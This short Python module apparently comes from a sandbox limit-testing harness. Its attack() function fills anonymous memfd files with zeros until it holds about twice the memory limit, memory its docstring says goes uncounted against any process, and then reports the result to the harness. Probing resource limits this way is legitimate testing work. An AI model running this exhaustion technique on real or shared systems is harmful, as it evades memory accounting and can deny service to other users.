"""Takes twice the memory that it may have in files without a name, whose pages are in no process's count."""

import os
from typing import Any


def attack(world: Any) -> list[str]:
    """Each file is as long as one may be."""
    size, total = world.limits["disk_bytes"], 0
    files = []
    while total < 2 * world.limits["memory_bytes"]:
        try:
            files.append(os.memfd_create("nobody"))
            for _ in range(size >> 20):
                total += os.write(files[-1], bytes(2**20))
        except OSError:
            break
        if total > 1.6 * world.limits["memory_bytes"]:
            world.claim(f"{total} bytes are held by nobody")
    return []
